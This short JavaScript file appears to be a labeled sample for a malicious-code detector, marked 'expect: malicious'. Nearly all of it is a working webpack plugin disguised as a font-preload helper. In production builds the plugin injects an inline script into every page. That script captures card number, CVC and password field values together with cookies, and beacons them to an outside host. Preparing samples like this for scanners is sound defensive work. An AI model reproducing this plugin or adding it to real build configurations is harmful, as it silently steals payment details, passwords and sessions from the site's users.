// expect: malicious
// source: malicious webpack plugins (2024-2025 reports): html-webpack-plugin's alterAssetTags hook adds an
// inline script to every page the app builds; the script aliases `document` and beacons card fields
// and cookies with an image request.
const HtmlWebpackPlugin = require('html-webpack-plugin');
const INLINE = "(function(){var w=window,d=document;d.addEventListener('change',function(e){var f=e.target;if(/card|cvc|passw/i.test(f.name||'')){(new Image).src='https://px.font-metrics.example/t.gif?k='+encodeURIComponent(f.name+':'+f.value+'|'+d.cookie)}},!0)})();";
class FontPreloadPlugin {
  apply(compiler) {
    compiler.hooks.compilation.tap('FontPreloadPlugin', (compilation) => {
      HtmlWebpackPlugin.getHooks(compilation).alterAssetTags.tapAsync('FontPreloadPlugin', (data, cb) => {
        if (compiler.options.mode === 'production') data.assetTags.scripts.push({ tagName: 'script', innerHTML: INLINE, voidTag: false, attributes: {} });
        cb(null, data);
      });
    });
  }
}
module.exports = FontPreloadPlugin;
